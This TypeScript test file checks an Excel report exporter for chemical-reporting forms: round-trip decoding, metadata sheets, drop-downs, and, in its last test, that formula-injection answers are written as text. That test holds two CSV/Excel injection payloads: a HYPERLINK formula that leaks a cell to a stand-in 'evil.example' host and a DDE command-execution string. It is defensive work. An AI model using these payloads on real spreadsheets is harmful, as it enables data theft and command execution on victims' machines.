import ExcelJS from 'exceljs'
import { questionsOf } from '#forms/question-index.ts'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { getChemical } from '#forms/codelists/index.ts'
import { askedAnswers } from '#forms/engine/index.ts'
import { isMarked } from '#forms/engine/values.ts'
import { formText } from '#forms/text.ts'
import type { Answer, ContactAnswer, Question } from '#forms/types.ts'
import { buildCompleteArt15V6Answers, art15V6Context } from '#forms/fixtures/builders.ts'
import { DDT_V1, sampleDocument } from '../fixtures.ts'
import { documentLabels } from '../labels.ts'
import type { ReportDocument } from '../report-document.ts'
import { CellCodec, columnLetter, type CellItem } from './cell-codec.ts'
import { createReportWorkbook } from './report-workbook.ts'
import { LISTS_SHEET, TEMPLATE_SHEET, type LayoutEntry } from './template-identity.ts'

/** Writes the workbook, reads it back with exceljs, and decodes every answer cell. */
async function readBack(doc: ReportDocument, entries: LayoutEntry[], workbook: ExcelJS.Workbook) {
	const bytes = await workbook.xlsx.writeBuffer()
	const read = new ExcelJS.Workbook()
	await read.xlsx.load(bytes)
	const codec = new CellCodec(
		formText(doc.definition, doc.lang),
		doc.formContext,
		doc.definition.codeLists,
	)
	const questions = new Map(questionsOf(doc.definition).map((question) => [question.id, question]))
	const answers: Record<string, Answer> = {}
	const decode = (item: CellItem, key: string, value: ExcelJS.CellValue) => {
		const result = codec.decode(item, key, value)
		if (result.kind === 'problem') throw new Error(`${key}: ${result.code}`)
		return result.kind === 'value' ? result.value : undefined
	}
	for (const entry of entries) {
		const sheet = read.getWorksheet(entry.sheet)!
		if (entry.kind === 'scalar') {
			const [id, field] = entry.ref.split('.') as [string, string | undefined]
			const question = questions.get(id)!
			const value = sheet.getCell(entry.row, 3).value
			if (question.type === 'contact') {
				const decoded = decode({ id: field!, type: 'text' }, entry.ref, value)
				if (decoded !== undefined) ((answers[id] ??= {}) as ContactAnswer)[field!] = String(decoded)
			} else {
				const decoded = decode(question as CellItem, id, value)
				if (decoded !== undefined) answers[id] = decoded
			}
			continue
		}
		const question = questions.get(entry.questionId)!
		if (question.type !== 'table') throw new Error('not a table')
		const rows = []
		for (let row = entry.headerRow + 1; row <= sheet.rowCount; row++) {
			const id = sheet.getCell(row, 1).value
			if (id === null || id === undefined) continue
			const cells: Record<string, unknown> = {}
			entry.columns.forEach((columnId, index) => {
				const column = question.columns.find((candidate) => candidate.id === columnId)!
				const decoded = decode(
					column,
					`${question.id}.${columnId}`,
					sheet.getCell(`${columnLetter(index + 2)}${row}`).value,
				)
				if (decoded !== undefined) cells[columnId] = decoded
			})
			rows.push({ id: String(id), cells })
		}
		if (rows.length > 0) answers[question.id] = { rows } as Answer
	}
	return { read, answers }
}

/** Answers as the export shows them: visible, non-attachment, table rows without their key. */
function expectedAnswers(doc: ReportDocument, questions: Question[]) {
	// The export shows the answers as asked: hidden questions and unasked rows left out.
	const asked = askedAnswers(doc.definition, doc.answers, doc.formContext)
	const expected: Record<string, unknown> = {}
	for (const question of questions) {
		const value = asked[question.id]
		if (value === undefined || question.type === 'attachment') continue
		if (question.type === 'table' && !isMarked(value)) {
			expected[question.id] = {
				rows: (value as { rows: { id: string; cells: object }[] }).rows.map((row) => ({
					id: row.id,
					cells: row.cells,
				})),
			}
		} else if (!isMarked(value)) expected[question.id] = value
	}
	return expected
}

describe('report workbook', () => {
	it.each([
		['Article 15, 6th cycle, English', sampleDocument({})],
		['Article 15, 6th cycle, French', sampleDocument({ lang: 'fr' })],
		['DDT, Arabic', sampleDocument({ definition: DDT_V1, lang: 'ar' })],
	])('reads back equal to the report (%s)', async (_name, doc) => {
		const { workbook, entries } = createReportWorkbook(doc, { kind: 'export' })
		const { read, answers } = await readBack(doc, entries, workbook)
		const questions = [...questionsOf(doc.definition)]
		expect(answers).toEqual(expectedAnswers(doc, questions))

		// A metadata sheet first, the list sheet hidden, no template identification.
		const labels = documentLabels(doc.lang)
		const meta = read.worksheets[0]!
		expect(meta.name).toBe(labels.metadataSheet)
		const metaValues = meta.getSheetValues().flat().map(String)
		expect(metaValues).toContain(doc.meta.sha256)
		expect(metaValues).toContain(doc.meta.formSha256)
		expect(metaValues).toContain(labels.formFingerprint)
		expect(metaValues).toContain(labels.states.accepted)
		expect(read.getWorksheet(LISTS_SHEET)?.state).toBe('hidden')
		expect(read.getWorksheet(TEMPLATE_SHEET)).toBeUndefined()
	})

	it('writes tables as Excel tables and choice columns with drop-downs', async () => {
		const doc = sampleDocument({})
		const { workbook, entries } = createReportWorkbook(doc, { kind: 'export' })
		const bytes = new Uint8Array(await workbook.xlsx.writeBuffer())
		const files = unzipSync(bytes)
		const tables = Object.keys(files).filter((name) => /^xl\/tables\/table\d+\.xml$/.test(name))
		const tableEntries = entries.filter((entry) => entry.kind === 'table')
		expect(tables).toHaveLength(tableEntries.length)

		const statistics = tableEntries.find((entry) => entry.questionId === 'b3_statistics')!
		const read = new ExcelJS.Workbook()
		await read.xlsx.load(bytes as never)
		const sheet = read.getWorksheet(statistics.sheet)!
		// The chemical column of partner tables offers the chemicals in force, by name.
		const partners = tableEntries.find((entry) => entry.questionId === 'b3_import_partners')!
		const partnerSheet = read.getWorksheet(partners.sheet)!
		const validation = partnerSheet.getCell(`B${partners.headerRow + 1}`).dataValidation
		expect(validation?.type).toBe('list')
		expect(validation?.formulae?.[0]).toMatch(
			new RegExp(`^'${LISTS_SHEET}'!\\$[A-Z]+\\$1:\\$[A-Z]+\\$\\d+$`),
		)
		const lists = read.getWorksheet(LISTS_SHEET)!
		const listColumn = /!\$([A-Z]+)\$/.exec(validation!.formulae![0]!)![1]!
		const names = lists.getColumn(listColumn).values.filter(Boolean)
		expect(names).toContain(getChemical('PFOS')!.labels.en)
		// Quantities accept markers, so they are not restricted to numbers.
		expect(sheet.getCell(`D${statistics.headerRow + 1}`).dataValidation?.type).toBeUndefined()
	})

	it.each(['export', 'template'] as const)(
		'writes formula-like answers as text cells, never formulas (%s)',
		async (kind) => {
			const answers = buildCompleteArt15V6Answers(art15V6Context())
			answers.b_obstacles_implementation = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
			answers.b_obstacles_reporting = "=cmd|' /C calc'!A0"
			const contact = answers.a_nfp_contact as ContactAnswer
			contact.phone = '+254 20 555 0100'
			// Never valid data, but no object in the answers may reach exceljs as a formula.
			answers.b_format_comments = { formula: '1+1' } as never
			const doc = sampleDocument({ answers })
			const { workbook, entries } = createReportWorkbook(
				doc,
				kind === 'export' ? { kind } : { kind, mode: 'prefilled' },
			)
			const bytes = new Uint8Array(await workbook.xlsx.writeBuffer())
			const files = unzipSync(bytes)
			const sheets = Object.keys(files).filter((name) => name.startsWith('xl/worksheets/sheet'))
			for (const name of sheets) expect(strFromU8(files[name]!), name).not.toMatch(/<f[\s>]/)
			const read = new ExcelJS.Workbook()
			await read.xlsx.load(bytes as never)
			const cellOf = (ref: string) => {
				const entry = entries.find((item) => item.kind === 'scalar' && item.ref === ref)
				if (entry?.kind !== 'scalar') throw new Error(ref)
				return read.getWorksheet(entry.sheet)!.getCell(entry.row, 3).value
			}
			expect(cellOf('b_obstacles_implementation')).toBe(answers.b_obstacles_implementation)
			expect(cellOf('b_obstacles_reporting')).toBe(answers.b_obstacles_reporting)
			expect(cellOf('a_nfp_contact.phone')).toBe('+254 20 555 0100')
			expect(cellOf('b_format_comments')).toBe('{"formula":"1+1"}')
		},
	)
})
